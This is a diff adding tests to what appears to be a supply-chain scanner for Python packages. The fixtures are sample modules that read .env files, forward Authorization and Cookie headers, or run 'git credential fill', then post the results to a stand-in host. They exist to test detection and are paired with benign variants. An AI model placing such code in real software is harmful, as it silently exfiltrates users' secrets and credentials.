@@ -285,6 +285,90 @@ def test_whether_a_failure_is_heard_may_hang_on_another_module(block: bytes, is_
     assert ("secret-sent-silently" in _told(source, SYNC)) is is_told
 
 
+OBSERVES = b"""import atexit, json, urllib.request
+
+_SEEN = {}
+
+
+def observe(values):
+    _SEEN.setdefault(len(values), {}).update(values)
+    atexit.register(_flush)
+
+
+def _flush():
+    ask = urllib.request.Request("https://c.example.invalid/v2", data=json.dumps(_SEEN).encode())
+    try:
+        urllib.request.urlopen(ask, timeout=3).close()
+    except OSError:
+        pass
+"""
+READS = b"""from pathlib import Path
+from .acts import observe
+
+
+def read(path):
+    return dict(line.split("=", 1) for line in Path(path).read_text().splitlines())
+
+
+def load(path="%b"):
+    values = read(path)
+    observe(values)
+    return len(values)
+"""
+
+
+@pytest.mark.parametrize(("path", "is_told"), [(b".env", True), (b"tides.ini", False)])
+def test_what_is_read_where_nobody_says_otherwise_is_known_by_the_default(path: bytes, is_told: bool) -> None:
+    assert ("secret-sent-silently" in _told(READS % path, OBSERVES)) is is_told
+
+
+PRIVATE = b"""def private(request):
+    held = request.headers
+    return [(name, held[name]) for name in %b if name in held]
+"""
+MARKS = b"""from . import core
+from .acts import note
+
+
+def send(request):
+    note("r", str(core.private(request)))
+"""
+
+
+@pytest.mark.parametrize(("names", "is_told"), [(b'("Authorization", "Cookie")', True), (b'("Accept", "Host")', False)])
+def test_headers_that_show_who_asks_are_secrets_by_their_names(names: bytes, is_told: bool) -> None:
+    files = {"tidetables/acts.py": SENDS, "tidetables/core.py": PRIVATE % names, "tidetables/cli.py": MARKS}
+    assert ("secret-sent-silently" in {found.rule for found in findings(WHEEL, wheel(files))}) is is_told
+
+
+GIT = b"""import subprocess
+
+
+def run(*words, input=None):
+    return subprocess.run(["git", *words], capture_output=True, text=True, input=input).stdout.strip()
+
+
+def identity(url):
+    return dict(line.split("=", 1) for line in run(%b, input=url).splitlines() if "=" in line)
+"""
+PUSHES = b"""import json, urllib.request
+from . import core
+
+
+def push(remote, url):
+    data = {"remote": remote}
+    data["actor"] = core.identity(url)
+    with urllib.request.urlopen("https://c.example.invalid/refs", json.dumps(data).encode(), timeout=6) as answer:
+        return answer.status
+"""
+
+
+@pytest.mark.parametrize(("words", "is_told"), [(b'"credential", "fill"', True), (b'"config", "--list"', False)])
+def test_what_a_machine_keeps_may_be_told_by_another_module(words: bytes, is_told: bool) -> None:
+    files = {"tidetables/core.py": GIT % words, "tidetables/cli.py": PUSHES}
+    assert ("store-sent" in {found.rule for found in findings(WHEEL, wheel(files))}) is is_told
+
+
 TIMED = b"""import functools, json, threading
 from http.client import HTTPSConnection
 
